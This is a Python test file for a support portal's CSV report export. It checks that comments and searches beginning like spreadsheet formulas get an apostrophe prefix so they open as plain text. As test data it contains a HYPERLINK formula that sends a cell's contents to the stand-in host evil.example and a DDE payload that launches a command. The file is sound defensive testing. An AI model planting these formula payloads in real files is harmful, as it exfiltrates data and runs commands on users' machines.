"""`kb report --format csv` never hands a spreadsheet a formula: readers' and writers' words that
start like one (`=`, `+`, `-`, `@`, tab, carriage return, after spaces, full-width) get a leading
apostrophe; our own figures stay numbers; nothing is lost or split into other cells."""

from __future__ import annotations

import csv
import datetime as dt
import io
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.report.data import build_report
from portal.report.exports import CSV_COLUMNS, NUMBER_COLUMNS, spreadsheet_safe, to_csv
from portal.report.model import (
    Comment,
    DailyPoint,
    FixItem,
    GuideFeedback,
    LearnedPhrase,
    QueryCount,
    Report,
    StaleGuide,
)
from portal.store.database import Store
from tests.support.report import PAPER, WEBSITES, loaded, make_content, search, vote

TODAY = dt.date(2026, 11, 22)
FORMULA = "=+-@"


def _opens_as_formula(cell: str) -> bool:
    """What a spreadsheet might run: a tab or CR first, or a formula sign after spaces and
    invisible characters, in any of its Unicode forms (full-width, small, superscript)."""
    if not cell or cell.startswith("'"):
        return False
    if cell[0] in "\t\r\n":
        return True
    for char in cell:
        if char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp"):
            continue
        return char == "\u2212" or unicodedata.normalize("NFKC", char)[:1] in FORMULA
    return False


def _breaks_outside_quotes(text: str) -> bool:
    """A CR or LF outside quotes other than the CRLF ending a row (a spreadsheet's new row)."""
    quoted = False
    outside: list[str] = []
    for char in text:
        if char == '"':
            quoted = not quoted
        elif not quoted:
            outside.append(char)
    breaks = "".join(c for c in outside if c in "\r\n")
    return breaks != "\r\n" * (len(breaks) // 2)


def _cells(text: str) -> list[dict[str, str]]:
    assert not _breaks_outside_quotes(text)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert all(set(row) == set(CSV_COLUMNS) for row in rows)
    return rows


def test_the_reported_comment_is_text_in_a_spreadsheet(tmp_path: Path) -> None:
    """The tester's case, through the real store and report: a comment and a search that start
    with `=`."""
    store = Store(f"sqlite:///{tmp_path}/kb.sqlite3")
    store.migrate()
    content = loaded(make_content(tmp_path / "content", ["page will not open"]), TODAY)
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"Click for help")'
    for n in range(6):
        vote(store, WEBSITES, n, TODAY, False, reason="steps-did-not-work", comment=payload)
    for moment in (10, 11):
        search(store, "@SUM(1+1)*cmd|' /C calc'!A0", 0, dt.datetime(2026, 11, 22, moment), None)
    search(store, "+1 555 0100", 0, dt.datetime(2026, 11, 22, 12), PAPER)
    report = build_report(store, content, today=TODAY, min_searches=2)
    store.dispose()
    rows = _cells(to_csv(report))
    comments = [row["text"] for row in rows if row["section"] == "comment"]
    assert comments and set(comments) == {"'" + payload}
    queries = [row["query"] for row in rows if row["section"] == "zero_results"]
    assert queries == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert rows[0]["searches"] == "3" and rows[0]["votes"] == "6"  # figures stay numbers


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "   =1+1",
        "\u00a0=1",  # a non-breaking space first
        "\u200b=1",  # an invisible zero-width space first
        "\ufeff@x",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "\u2212 1",  # the minus sign
        "\ufe661",  # small equals
        "\tplain",
        "\rplain",
    ],
)
def test_a_risky_start_gets_an_apostrophe_and_nothing_else_changes(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["printer offline", "0x80070005", "KB5034441", "a = b", "e-mail", "'=already text", "", "   "],
)
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert spreadsheet_safe(text) == text


# Text from readers and writers, biased to start like a formula.
RISKY = st.sampled_from(
    [
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        " ",
        "\u00a0",
        "\u200b",
        "\uff1d",
        "\uff0b",
        "\uff0d",
        "\uff20",
        "\u2212",
    ]
)
TEXT = st.one_of(
    st.text(max_size=30),
    st.builds(lambda a, b, c: a + b + c, st.text(RISKY, max_size=3), RISKY, st.text(max_size=20)),
)
NUMBER = st.integers(0, 1000)
SHARE = st.one_of(st.none(), st.floats(0, 1))
DAY = st.dates(dt.date(2000, 1, 1), dt.date(2100, 1, 1))


def _report(data: st.DataObject) -> Report:
    def text() -> str:
        return data.draw(TEXT)

    def texts() -> list[str]:
        return data.draw(st.lists(TEXT, max_size=3))

    guides = [
        GuideFeedback(
            path=text(),
            title=text(),
            url=text(),
            votes=data.draw(NUMBER),
            helpful=data.draw(NUMBER),
            share=data.draw(SHARE),
            wilson=data.draw(SHARE),
            reasons=[(text(), data.draw(NUMBER))],
            comments=[
                Comment(
                    data.draw(DAY), data.draw(st.booleans()), data.draw(st.none() | TEXT), text()
                )
            ],
            reviewed=data.draw(st.none() | DAY),
            review_due=data.draw(st.none() | DAY),
        )
        for _ in range(data.draw(st.integers(0, 2)))
    ]
    fix = [
        FixItem(text(), text(), text(), texts(), data.draw(NUMBER), data.draw(SHARE),
                data.draw(NUMBER), data.draw(st.none() | NUMBER), data.draw(st.floats(0, 100)))
        for _ in range(data.draw(st.integers(0, 2)))
    ]  # fmt: skip
    queries = [
        QueryCount(text(), data.draw(NUMBER), data.draw(NUMBER), data.draw(NUMBER))
        for _ in range(data.draw(st.integers(0, 2)))
    ]
    learned = [
        LearnedPhrase(text(), text(), text(), data.draw(NUMBER), texts())
        for _ in range(data.draw(st.integers(0, 2)))
    ]
    stale = [
        StaleGuide(text(), text(), text(), data.draw(DAY), data.draw(DAY), data.draw(NUMBER))
        for _ in range(data.draw(st.integers(0, 2)))
    ]
    daily = [DailyPoint(data.draw(DAY), 1, 0, 2, 1)]
    totals = {"searches": data.draw(NUMBER), "votes": data.draw(NUMBER)}
    return Report(
        dt.datetime(2026, 11, 22, 12), TODAY, TODAY, 5, totals, guides, fix, queries, queries,
        learned, stale, daily,
    )  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(data=st.data())
def test_no_cell_of_any_report_opens_as_a_formula(data: st.DataObject) -> None:
    report = _report(data)
    rows = _cells(to_csv(report))
    expected = 1 + sum(1 + len(g.comments) for g in report.guides) + len(report.fix_next)
    expected += 2 * len(report.zero_result_queries) + len(report.learned_phrases)
    expected += len(report.stale) + len(report.daily)
    assert len(rows) == expected  # no text split a row or made another one
    for row in rows:
        for column, cell in row.items():
            assert not _opens_as_formula(cell), (column, cell)
            if column in NUMBER_COLUMNS and cell:
                float(cell)  # our figures stay plain numbers
    for row, query in zip(
        [r for r in rows if r["section"] == "zero_results"], report.zero_result_queries, strict=True
    ):
        assert row["query"] in (query.query, "'" + query.query)  # nothing else changed


@settings(max_examples=500, deadline=None)
@given(text=st.text())
def test_any_text_is_kept_whole_and_never_opens_as_a_formula(text: str) -> None:
    safe = spreadsheet_safe(text)
    assert safe in (text, "'" + text)
    assert not _opens_as_formula(safe)
